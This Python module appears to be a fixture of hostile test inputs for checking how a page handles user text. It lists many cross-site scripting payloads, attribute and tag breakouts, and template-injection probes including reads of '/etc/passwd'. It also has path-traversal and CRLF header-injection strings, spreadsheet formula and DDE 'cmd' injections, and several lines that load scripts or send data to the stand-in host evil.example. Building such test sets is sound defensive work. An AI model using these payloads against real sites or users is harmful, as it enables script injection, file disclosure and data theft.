"""Texts that somebody may send to be shown on a page: each tries to run a script, to load something, or to break out of its place."""

ALERT = "window.__ran=1"
MARKUP = (
    f"<script>{ALERT}</script>", f"<img src=x onerror={ALERT}>", f"<svg onload={ALERT}>", f"<svg><script>{ALERT}</script></svg>",
    f"<body onload={ALERT}>", f"<iframe src=javascript:{ALERT}></iframe>", f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    f"<details open ontoggle={ALERT}>", f"<input autofocus onfocus={ALERT}>", f"<select autofocus onfocus={ALERT}></select>",
    f"<video><source onerror={ALERT}></video>", f"<audio src=x onerror={ALERT}>", f"<marquee onstart={ALERT}>", f"<object data=javascript:{ALERT}>",
    f"<embed src=javascript:{ALERT}>", f"<a href=javascript:{ALERT}>click</a>", f"<a href='data:text/html,<script>{ALERT}</script>'>click</a>",
    f"<form action=javascript:{ALERT}><button>go</button></form>", f"<button formaction=javascript:{ALERT}>go</button>", f"<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={ALERT} src=x>'>",
    f"<style>@import 'http://evil.example/a.css';</style><p style=\"background:url(javascript:{ALERT})\">", "<link rel=stylesheet href=http://evil.example/a.css>",
    "<img src=http://evil.example/pixel.png>", "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<template><script>{ALERT}</script></template>", f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">', f"<xmp><img src=x onerror={ALERT}></xmp>",
    f"<isindex type=image src=x onerror={ALERT}>", f"<keygen autofocus onfocus={ALERT}>", f"<table background=javascript:{ALERT}>", f"<div onmouseover={ALERT}>over</div>",
    f'<div style="animation-name:x" onanimationstart={ALERT}></div>', f"<p/onclick={ALERT}>p", f"<ScRiPt>{ALERT}</sCrIpT>", f"<scr<script>ipt>{ALERT}</script>",
    f"<<script>{ALERT}//<</script>", f'<img """><script>{ALERT}</script>">', f"<img src='x'onerror='{ALERT}'>", f"<svg/onload={ALERT}//",
    f"<script src=http://evil.example/x.js></script>{ALERT}", f"<script>{ALERT}", f"<portal src=javascript:{ALERT}>", f"<dialog open onclose={ALERT}>",
)  # fmt: skip
BREAKOUTS = (
    f'"><script>{ALERT}</script>', f"'><script>{ALERT}</script>", f'" onmouseover="{ALERT}', f"' onfocus='{ALERT}' autofocus='", f"--><script>{ALERT}</script>",
    f"]]><script>{ALERT}</script>", f"</title><script>{ALERT}</script>", f"</textarea><script>{ALERT}</script>", f"</style><script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>", f"</svg><img src=x onerror={ALERT}>", f"</desc></svg><script>{ALERT}</script>", f'\\"-{ALERT}//', f"';{ALERT}//", f"`-{ALERT}-`", f"${{{ALERT}}}",
    f"{{{{constructor.constructor('{ALERT}')()}}}}", "{% raw %}{{ 7*7 }}{% endraw %}", "{{ config }}{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "{{ 7*7 }}", "<%= 7*7 %>", "#{7*7}",
    f"javascript:{ALERT}", f"JaVaScRiPt:{ALERT}", f"java\tscript:{ALERT}", f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg=={ALERT}", f"vbscript:{ALERT}",
    "//evil.example/x", "https://evil.example/?q=", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/ui/../../x", "?a=1&b=2#frag", "%00", "%0d%0aSet-Cookie: a=b",
)  # fmt: skip
ODD = (
    f"\u202e<script>{ALERT}</script>", f"\ufeff<img src=x onerror={ALERT}>", f"\u2028<script>{ALERT}</script>", f"\x1b]0;owned\x07\x1b[31m<script>{ALERT}</script>", f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{ALERT}+ADw-/script+AD4-", f"&lt;script&gt;{ALERT}&lt;/script&gt;", f"&#60;script&#62;{ALERT}&#60;/script&#62;", f"%3Cscript%3E{ALERT}%3C/script%3E", f"\\u003cscript\\u003e{ALERT}",
    f"![x](javascript:{ALERT})", "![x](http://evil.example/pixel.png)", f"[x](javascript:{ALERT})", "<http://evil.example/>", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/"&A1)', "@SUM(1+1)*cmd", "+1+cmd", "-2+3+cmd",
    "x" * 3000, "a\u0300" * 400, "<b>" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40, "''''\"\"\"\"````<<<<>>>>", "null", "undefined", "__proto__", "constructor", "NaN",
)  # fmt: skip
PAYLOADS = MARKUP + BREAKOUTS + ODD
